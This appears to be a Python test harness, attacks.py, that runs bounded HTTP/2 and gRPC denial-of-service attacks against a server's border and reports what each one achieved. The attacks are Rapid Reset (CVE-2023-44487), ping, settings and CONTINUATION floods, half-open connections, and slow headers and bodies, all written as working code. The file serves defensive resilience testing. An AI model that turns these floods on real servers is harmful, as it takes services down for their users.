"""What a hostile partner does, each bounded in count and time.

  attacks.py SETUP.json NAME ARGUMENTS    prints what came of it, as JSON

Every attack returns what came of it, so that one that no longer bites shows:
connections made and cut, frames sent, calls refused.
"""

import json
import resource
import socket
import sys
import time

import frames as wire
from hyperframe import frame as frames

# A flood goes on for its time and until it sent so many, but no longer than
# this; what it sends in half a minute is bounded by what one program can make.
FLOOD_MIN = 100_000
FLOOD_MAX_SECONDS = 40
CHUNK_FRAMES = 500
STREAMS = 32  # at once: what the border grants


class Tally(dict):
    def __missing__(self, key):
        return 0

    def add(self, key, count=1):
        self[key] = self.get(key, 0) + count

    def take(self, connection):
        """What `connection` was told."""
        self.add("connections")
        if connection.closed or connection.went_away is not None:
            self.add("cut")
        for said in connection.statuses:
            self.add("refused" if said["grpc-status"] != "0" else "answered")
        self.add("streams_reset_by_border", sum(connection.reset_codes.values()))


def flood(port, tls, seconds, payload_of):
    """Sends chunks of CHUNK_FRAMES, on a new connection whenever one is cut.
    `payload_of(first)` is a chunk beginning with the first-th of its
    connection."""
    tally, sent, began = Tally(), 0, time.monotonic()

    def goes_on():
        spent = time.monotonic() - began
        return (spent < seconds
                or sent < FLOOD_MIN and spent < FLOOD_MAX_SECONDS)

    while goes_on():
        try:
            connection = wire.Connection(port, tls)
        except OSError:
            tally.add("not_connected")
            continue
        done = 0
        while goes_on():
            taken = connection.send(payload_of(done))
            if not taken or connection.went_away is not None:
                break
            done += CHUNK_FRAMES
            sent += CHUNK_FRAMES
        connection.wait(lambda c: c.went_away is not None, 0.05)
        tally.take(connection)
        connection.close()
    tally["sent"] = sent
    return tally


def rapid_resets(port, tls, seconds):
    """CVE-2023-44487: opens calls and takes them back at once."""
    block = wire.call_headers()
    chunks = {}

    def chunk(first):
        if first not in chunks:
            chunks[first] = b"".join(
                wire.headers(2 * i + 1, block)
                + wire.make(frames.RstStreamFrame, 2 * i + 1, error_code=8)
                for i in range(first, first + CHUNK_FRAMES))
        return chunks[first]

    return flood(port, tls, seconds, chunk)


def ping_flood(port, tls, seconds):
    ping = wire.make(frames.PingFrame, 0, opaque_data=b"hostile!")
    chunk = ping * CHUNK_FRAMES
    return flood(port, tls, seconds, lambda _: chunk)


def settings_flood(port, tls, seconds):
    one = wire.settings(values={frames.SettingsFrame.INITIAL_WINDOW_SIZE: 1})
    chunk = one * CHUNK_FRAMES
    return flood(port, tls, seconds, lambda _: chunk)


def continuation_flood(port, tls, seconds):
    """Headers that never end."""
    more = wire.make(frames.ContinuationFrame, 1, data=b"\0\x01a\x7f\x80\x01"
                     + b"b" * 255)
    begin = wire.headers(1, wire.call_headers(), flags=())

    def chunk(first):
        return (begin if first == 0 else b"") + more * CHUNK_FRAMES

    return flood(port, tls, seconds, chunk)


def valid_calls(port, tls, seconds, request):
    """Calls that nobody could fault, as fast as they go."""
    block = wire.call_headers()
    body = wire.message(bytes.fromhex(request))

    def call(i):
        return (wire.headers(2 * i + 1, block)
                + wire.data(2 * i + 1, body, flags=("END_STREAM",)))

    tally, end = Tally(), time.monotonic() + seconds
    while time.monotonic() < end:
        connection, sent = wire.Connection(port, tls), 0
        while time.monotonic() < end and connection.went_away is None:
            done = len(connection.ended)
            free = STREAMS - (sent - done)
            if free > 0:
                connection.send(b"".join(
                    call(i) for i in range(sent, sent + free)))
                sent += free
            connection.wait(lambda c, n=done: len(c.ended) > n, 0.05)
            if connection.closed:
                break
        tally.take(connection)
        tally.add("sent", sent)
        connection.close()
    return tally


def half_open(port, tls, count, seconds):
    """Connections that never say a word. `tls` is not even needed."""
    del tls
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    tally, opened = Tally(), []
    began = time.monotonic()
    for _ in range(min(count, hard - 100)):
        try:
            opened.append(socket.create_connection((wire.ADDRESS, port), 2))
        except OSError:
            tally.add("not_connected")
    tally["opened"] = len(opened)
    for each in opened:
        each.settimeout(max(0.01, began + seconds - time.monotonic()))
        try:
            if each.recv(1) == b"":
                tally.add("cut")
        except ConnectionError:
            tally.add("cut")
        except OSError:
            tally.add("still_open")
    tally["seconds_until_cut"] = round(time.monotonic() - began, 1)
    for each in opened:
        each.close()
    resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    return tally


def slow_headers(port, tls, count, seconds):
    """Begins a call on each of `count` connections and never ends its
    headers."""
    begin = wire.headers(1, wire.call_headers()[:20], flags=())[:-5]
    tally, opened = Tally(), []
    for _ in range(count):
        connection = wire.Connection(port, tls)
        connection.send(begin)
        opened.append(connection)
    return _until_ended(tally, opened, 1, seconds)


def slow_bodies(port, tls, count, seconds):
    """Begins bodies on every stream that it may have, and says no more."""
    tally, opened, block = Tally(), [], wire.call_headers()
    for _ in range(count):
        connection = wire.Connection(port, tls)
        connection.send(b"".join(
            wire.headers(2 * i + 1, block) + wire.data(2 * i + 1, b"\0\0")
            for i in range(STREAMS)))
        opened.append(connection)
    return _until_ended(tally, opened, STREAMS, seconds)


def _until_ended(tally, opened, streams, seconds):
    """What was begun must be ended by the other side: each stream, or its
    whole connection."""
    began = time.monotonic()
    for connection in opened:
        left = max(0.01, began + seconds - time.monotonic())
        connection.wait(lambda c: len(c.ended) >= streams, left)
        gone = connection.closed or connection.went_away is not None
        tally.add("streams", streams)
        tally.add("ended", streams if gone else len(connection.ended))
        tally.take(connection)
        connection.close()
    tally["seconds_until_ended"] = round(time.monotonic() - began, 1)
    return tally


def main():
    with open(sys.argv[1], encoding="utf-8") as file:
        setup = json.load(file)
    tls = wire.context(setup["hostile_pem"], setup["hostile_key"])
    print(json.dumps(globals()[sys.argv[2]](setup["port"], tls,
                                            *json.loads(sys.argv[3]))))


if __name__ == "__main__":
    main()
